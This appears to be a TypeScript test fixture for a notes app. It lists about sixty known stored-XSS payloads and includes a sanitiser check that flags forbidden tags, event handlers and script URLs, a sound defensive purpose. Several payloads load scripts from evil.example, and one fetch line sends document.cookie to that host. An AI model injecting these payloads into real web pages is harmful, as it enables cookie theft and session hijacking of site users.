/**
 * Known stored-XSS payloads (OWASP filter-evasion cheat sheet, PortSwigger and HTML5 Security Cheatsheet
 * vectors). Shared by the API tests and the browser test of the notes screen: every one must come back
 * from storage harmless.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(document.cookie)</sCrIpT>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<p>ok</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src="x" onerror="&#x61;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/xss.sct"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<embed code="https://evil.example/xss.swf" allowscriptaccess=always>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
  '<p onclick="alert(1)">click me</p>',
  '<div onmouseover="alert(1)">hover</div>',
  '<span style="background:url(javascript:alert(1))">x</span>',
  '<span style="width: expression(alert(1))">x</span>',
  '<p style="color:red;behavior:url(xss.htc)">x</p>',
  '<style>@import "https://evil.example/xss.css";</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p>"><script>alert(1)</script></p>',
  '<a href="#" title="x" style="color:#fff" onclick="alert(1)" class="ql-x">x</a>',
  '<template><script>alert(1)</script></template>',
  '<h1><a href="javascript&colon;alert(1)">x</a></h1>',
];

const FORBIDDEN_TAGS =
  /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|input|button|textarea|select|video|audio|source|details|marquee|isindex|table|template|noscript|body|xss|frame|frameset|applet)\b/i;
const TAG = /<[a-z][^>]*>/gi;
const HANDLER = /\son[a-z]+\s*=/i;
const BAD_URL = /(java|vb)script\s*:|data\s*:|expression\s*\(|url\s*\(/i;

const NAMED: Record<string, string> = { colon: ':', tab: '', newline: '', lpar: '(', rpar: ')', quot: '"' };

/** A tag as the browser reads its attributes: character references decoded, tabs and newlines dropped. */
function decoded(element: string): string {
  return element
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&([a-z]+);/gi, (entity, name: string) => NAMED[name.toLowerCase()] ?? entity)
    .replace(/[\t\n\r]/g, '');
}

/** What is still dangerous in stored rich text; empty when it is harmless. */
export function unsafeMarkup(html: string): string[] {
  const found: string[] = [];
  const tag = FORBIDDEN_TAGS.exec(html);
  if (tag) found.push(`tag <${tag[1]}>`);
  for (const element of html.match(TAG) ?? []) {
    const attributes = decoded(element);
    if (HANDLER.test(attributes)) found.push(`event handler in ${element}`);
    if (BAD_URL.test(attributes)) found.push(`script or data URL in ${element}`);
  }
  return found;
}
